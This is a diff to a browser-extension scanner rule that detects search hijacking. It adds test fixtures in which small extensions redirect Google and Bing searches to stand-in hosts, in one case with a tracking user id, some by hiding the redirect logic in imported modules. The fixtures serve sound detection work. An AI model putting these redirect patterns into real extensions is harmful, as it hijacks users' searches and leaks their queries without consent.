@@ -1,6 +1,11 @@
 import { defineRule } from '../../rule.ts';
+import { exampleExtension } from '../manifest/manifestHit.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
-import { followed, leftFromAnswers, ledByRules, ledFromTabs } from './searchesLed.ts';
+import { followed, leftFromAnswers, ledByLists, ledByRules, ledFromTabs } from './searchesLed.ts';
+
+const LISTS = { declarative_net_request: { rule_resources: [{ id: 'a', enabled: true, path: 'rules.json' }] } };
+const RULES = (redirect: object, condition: object): string =>
+  JSON.stringify([{ id: 1, action: { type: 'redirect', redirect }, condition }]);
 
 export const searchHijack = defineRule({
   id: 'search-hijack',
@@ -18,7 +23,7 @@ export const searchHijack = defineRule({
   remedy: 'Offer a search engine through the manifest’s settings override, which the browser asks about.',
   cap: { grade: 'D', reason: 'it redirects searches to another service', from: 'high' },
   *check(facts) {
-    const declared = [...written(facts)];
+    const declared = [...written(facts), ...ledByLists(facts)];
     yield* declared;
     yield* followed(facts, declared);
   },
@@ -46,6 +51,38 @@ export const searchHijack = defineRule({
       backgroundExample(
         'const ENGINES = [["^https?://(www\\\\.)?google\\\\.[a-z.]+/search\\\\?(.*&)?q=([^&]+).*", 3], ["^https?://(www\\\\.)?bing\\\\.com/search\\\\?q=([^&]+).*", 2]]; const rules = (uid) => ENGINES.map(([regexFilter, group], i) => ({ id: i + 1, action: { type: "redirect", redirect: { regexSubstitution: `https://find.example/s?uid=${uid}&q=\\\\${group}` } }, condition: { regexFilter, resourceTypes: ["main_frame"] } })); chrome.declarativeNetRequest.updateDynamicRules({ addRules: rules("1") });',
       ),
+      exampleExtension(LISTS, {
+        'rules.json': RULES(
+          { regexSubstitution: 'https://find.example/r?w=\\2' },
+          { regexFilter: '^https://www\\.google\\.[a-z.]+/search\\?(.*&)?q=([^&]+)', resourceTypes: ['main_frame'] },
+        ),
+      }),
+      exampleExtension(LISTS, {
+        'rules.json': RULES(
+          { transform: { host: 'find.example' } },
+          { urlFilter: '/search?', requestDomains: ['www.bing.com'], resourceTypes: ['main_frame'] },
+        ),
+      }),
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js", "type": "module"}}',
+          'background.js':
+            'import { plan } from "./plan.js"; chrome.declarativeNetRequest.updateDynamicRules({ addRules: plan() });',
+          'plan.js':
+            'const rule = (id, regexFilter, to) => ({ id, action: { type: "redirect", redirect: { regexSubstitution: to } }, condition: { regexFilter } }); const HOME = "https://find.example/"; export const plan = () => ["google.com/search", "bing.com/search"].map((site, i) => rule(i + 1, `^https://www\\\\.${site}\\\\?(?:.*&)?q=([^&]+)`, `${HOME}m/${i}?w=\\\\1`));',
+        },
+      },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js", "type": "module"}}',
+          'background.js':
+            'import { asked, answers } from "./engines.js"; chrome.webNavigation.onCommitted.addListener(async (d) => { const words = asked(d.url); if (words) chrome.tabs.update(d.tabId, { url: await answers(words) }); });',
+          'engines.js':
+            'const KNOWN = { "www.google.com": "q", "www.bing.com": "q" }; const home = { host: "find.clock.example" }; export const asked = (address) => { const u = new URL(address); return u.searchParams.get(KNOWN[u.hostname]); }; export async function answers(words) { const u = new URL("/web", `https://${home.host}`); u.searchParams.set("w", words); return u.href; }',
+        },
+      },
       {
         files: {
           'manifest.json':
@@ -65,6 +102,15 @@ export const searchHijack = defineRule({
       ),
     ],
     good: [
+      exampleExtension(LISTS, {
+        'rules.json': RULES(
+          { regexSubstitution: 'https://www.google.com/search?udm=14&q=\\1' },
+          { regexFilter: '^https://www\\.google\\.com/search\\?q=([^&]+)', resourceTypes: ['main_frame'] },
+        ),
+      }),
+      backgroundExample(
+        'const rule = (id, regexFilter, to) => ({ id, action: { type: "redirect", redirect: { regexSubstitution: to } }, condition: { regexFilter } }); chrome.declarativeNetRequest.updateDynamicRules({ addRules: [rule(1, "^https://www\\\\.google\\\\.com/url\\\\?q=([^&]+)", "\\\\1"), rule(2, "^https://www\\\\.google\\\\.com/amp/s/(.*)", "https://\\\\1")] });',
+      ),
       contentExample(
         'const form = document.createElement("form"); form.action = "https://tool.example/feedback"; panel.append(form);',
         { content_scripts: [{ matches: ['https://www.google.com/*'], js: ['content.js'] }] },
